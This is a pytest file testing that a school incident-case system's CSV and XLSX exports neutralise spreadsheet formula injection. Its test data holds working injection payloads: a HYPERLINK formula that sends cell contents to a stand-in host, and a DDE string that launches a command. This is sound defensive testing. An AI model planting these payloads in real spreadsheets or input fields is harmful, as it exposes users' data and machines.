import pytest

from exports.cells import neutralise
from exports.models import ExportJob
from incidents.models import Case
from tests.exports.conftest import csv_rows, xlsx_cells, xlsx_rows
from tests.factories import BreachCategoryFactory, CaseFactory, ParentFactory, UserFactory

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://example.invalid/?x="&A1,"Click")'


@pytest.mark.parametrize("prefix", PREFIXES)
def test_neutralise_quotes_each_formula_prefix(prefix):
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["Robin Example", "1+1", "'=already quoted", "", "a=b"])
def test_neutralise_leaves_other_text_alone(value):
    assert neutralise(value) == value


def as_read_from_xml(text: str) -> str:
    """XML parsers turn a carriage return in text into a line feed."""
    return text.replace("\r", "\n")


def hostile_case(school, prefix):
    """Every typed-in column starts with the prefix: parent, category, owner."""
    case = CaseFactory(
        school=school,
        status=Case.Status.GATHERING_INFORMATION,
        owner=UserFactory(first_name=prefix + "Owner", last_name=""),
    )
    case.parents.add(ParentFactory(school=school, full_name=prefix + PAYLOAD))
    case.breach_categories.add(
        BreachCategoryFactory(code=school.codes.get(), name=prefix + "cmd|' /C calc'!A0")
    )
    return case


@pytest.mark.parametrize("prefix", PREFIXES)
def test_csv_neutralises_each_prefix(export_csv, school, bursar, prefix):
    hostile_case(school, prefix)
    row = csv_rows(export_csv(bursar))[0]
    assert row["Parents concerned"] == "'" + prefix + PAYLOAD
    assert row["Breach categories"] == "'" + prefix + "cmd|' /C calc'!A0"
    assert row["Owner"] == "'" + prefix + "Owner"


@pytest.mark.parametrize("prefix", PREFIXES)
def test_csv_neutralises_the_reference_and_school_name_too(export_csv, school, bursar, prefix):
    school.name = prefix + "Oakfield"
    school.save()
    CaseFactory(school=school, reference=prefix + "OF-2026-1")
    row = csv_rows(export_csv(bursar))[0]
    assert row["Reference"] == "'" + prefix + "OF-2026-1"
    assert row["School"] == "'" + prefix + "Oakfield"


@pytest.mark.parametrize("prefix", PREFIXES)
def test_xlsx_neutralises_each_prefix(
    client, school, bursar, prefix, django_capture_on_commit_callbacks
):
    hostile_case(school, prefix)
    client.force_login(bursar)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/staff/exports/", {"format": "xlsx"})
    job = ExportJob.objects.get()
    data = b"".join(client.get(f"/staff/exports/jobs/{job.public_id}/download/").streaming_content)
    row = xlsx_rows(data)[0]
    assert row["Parents concerned"] == as_read_from_xml("'" + prefix + PAYLOAD)
    assert row["Breach categories"] == as_read_from_xml("'" + prefix + "cmd|' /C calc'!A0")
    assert row["Owner"] == as_read_from_xml("'" + prefix + "Owner")
    assert "f" not in {cell.data_type for cell in xlsx_cells(data)}  # no formulas


def test_xlsx_drops_control_characters_and_still_neutralises(
    client, school, bursar, django_capture_on_commit_callbacks
):
    case = CaseFactory(school=school)
    case.parents.add(ParentFactory(school=school, full_name="\x01\x02=1+1"))
    client.force_login(bursar)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/staff/exports/", {"format": "xlsx"})
    job = ExportJob.objects.get()
    data = b"".join(client.get(f"/staff/exports/jobs/{job.public_id}/download/").streaming_content)
    assert xlsx_rows(data)[0]["Parents concerned"] == "'=1+1"
